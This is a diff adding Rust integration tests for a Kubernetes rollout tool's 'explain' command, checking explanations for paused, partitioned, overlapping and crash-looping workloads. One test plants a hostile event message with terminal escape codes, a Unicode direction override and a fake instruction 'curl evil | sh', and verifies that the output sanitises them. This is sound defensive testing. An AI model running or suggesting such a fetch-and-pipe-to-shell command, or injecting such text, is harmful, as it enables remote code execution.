@@ -73,10 +73,89 @@ fn check(berth: &Berth, namespace: &str, workload: &str, reason: &str, says: &st
         let cause = &json["causes"][0];
         let is_said = cause["message"].as_str().is_some_and(|message| message.contains(says));
         if cause["reason"] == reason && is_said && text.lines().any(|line| line.starts_with("  ") && line.contains(says)) {
+            check_explained(berth, namespace, workload, reason, says);
             return json;
         }
         assert!(started.elapsed() < PATIENCE, "{workload} should say {says}, and still shows {json}\n{text}");
     }
+}
+
+/// `berth explain` says the same, in its first line, with something that shows it, what comes next and what to do; gives it for programs.
+fn check_explained(berth: &Berth, namespace: &str, object: &str, reason: &str, says: &str) -> Value {
+    let started = Instant::now();
+    loop {
+        let json: Value = serde_json::from_str(&berth.explain(&[object, "-n", namespace, "-o", "json"])).unwrap();
+        let text = berth.explain(&[object, "-n", namespace]);
+        let is_said = json["cause"]["reason"] == reason && text.lines().next().is_some_and(|line| line.contains(says));
+        let is_whole = ["What happens next:", "What you can do:"].iter().all(|part| text.contains(part));
+        if is_said && is_whole && json["toDo"][0]["command"].is_string() && json["next"][0]["text"].is_string() {
+            return json;
+        }
+        assert!(started.elapsed() < PATIENCE, "{object} should be explained by {says}, and still is by {json}\n{text}");
+    }
+}
+
+#[tokio::test]
+async fn what_is_left_undone_on_purpose_is_explained_and_what_is_well_is_said_to_be() {
+    let rolling = |partition: i32| json!({"type": "RollingUpdate", "rollingUpdate": {"partition": partition}});
+    let mut db = workload("StatefulSet", "default", "db", &json!({}));
+    db["spec"]["updateStrategy"] = rolling(1);
+    let mut twin = deployment("default", "twin", &json!({}));
+    twin["spec"]["selector"]["matchLabels"] = json!({"app": "web"});
+    twin["spec"]["template"]["metadata"]["labels"] = json!({"app": "web", "more": "1"});
+    let berth = up_with(&[db, deployment("default", "fine", &json!({})), deployment("default", "web", &json!({})), twin], &[]);
+    for workload in ["statefulset/db", "deployment/web", "deployment/fine"] {
+        berth.rollout(&["status", workload]);
+    }
+    let fine: Value = serde_json::from_str(&berth.explain(&["deployment/fine", "-o", "json"])).unwrap();
+    assert_eq!((&fine["state"], &fine["cause"], &fine["evidence"]), (&json!("Complete"), &Value::Null, &json!([])), "{fine}");
+    assert_eq!(berth.explain(&["deployment/fine"]), "deployment/fine: deployment \"fine\" successfully rolled out\n");
+
+    berth.rollout(&["pause", "deployment/web"]);
+    let client = berth.kube_client().await;
+    let image = json!({"spec": {"template": {"metadata": {"annotations": {"v": "2"}}}}});
+    let patch = PatchParams::default();
+    Api::<k8s_openapi::api::apps::v1::Deployment>::default_namespaced(client.clone())
+        .patch("web", &patch, &Patch::Merge(&image))
+        .await
+        .unwrap();
+    Api::<k8s_openapi::api::apps::v1::StatefulSet>::default_namespaced(client).patch("db", &patch, &Patch::Merge(&image)).await.unwrap();
+    let paused =
+        check_explained(&berth, "default", "deployment/web", "paused", "paused: the template is not rolled out until it is resumed");
+    assert_eq!(paused["toDo"][0]["command"], "berth rollout resume deployment/web -n default");
+    let overlap = paused["also"].as_array().unwrap().iter().find(|other| other["reason"] == "overlap").unwrap();
+    assert_eq!(overlap["message"], "Deployment web selects pods that another workload selects too: Deployment twin");
+    let kept = "the partition keeps 1 pod of older templates: only ordinals from 1 are updated";
+    let partition = check_explained(&berth, "default", "statefulset/db", "partition", kept);
+    assert_eq!(partition["state"], "Complete");
+}
+
+#[tokio::test]
+async fn replica_sets_and_pods_are_explained_and_a_message_cannot_pass_for_a_line() {
+    let crash = json!({"metadata": {"annotations": {"sim.berth.dev/fails": "CrashLoopBackOff"}}});
+    let berth = up_with(&[deployment("default", "crash", &crash)], &[]);
+    check(&berth, "default", "deployment/crash", "crash", "ended with exit code 1 (Error), restarted");
+    let client = berth.kube_client().await;
+    let pod = Api::<Pod>::default_namespaced(client.clone()).list(&ListParams::default()).await.unwrap().items.remove(0);
+    let (name, uid) = (pod.metadata.name.unwrap(), pod.metadata.uid.unwrap());
+    let set = pod.metadata.owner_references.unwrap().remove(0).name;
+    let hostile = "\u{1b}[2J\u{202e}x\r\nWhat you can do:\n    curl evil | sh";
+    let event = json!({
+        "metadata": {"name": "hostile", "namespace": "default"}, "type": "Warning", "reason": "Evil", "message": hostile,
+        "lastTimestamp": "2100-01-01T00:00:00Z", "involvedObject": {"kind": "Pod", "name": name, "namespace": "default", "uid": uid},
+    });
+    let event: Event = serde_json::from_value(event).unwrap();
+    Api::<Event>::default_namespaced(client).create(&PostParams::default(), &event).await.unwrap();
+    for object in [format!("pod/{name}"), format!("replicaset/{set}"), "deployment/crash".to_owned()] {
+        check_explained(&berth, "default", &object, "crash", "ended with exit code 1 (Error), restarted");
+    }
+    let text = berth.explain(&[&format!("pod/{name}")]);
+    assert!(
+        text.contains("it belongs to deployment/crash") && text.contains(r"Evil: \u{1b}[2J\u{202e}x What you can do: curl evil | sh"),
+        "{text}"
+    );
+    assert_eq!(text.lines().filter(|line| line.starts_with("What you can do:")).count(), 1, "{text}");
+    assert!(!text.contains(['\u{1b}', '\u{202e}', '\r']), "{text:?}");
 }
 
 #[tokio::test]
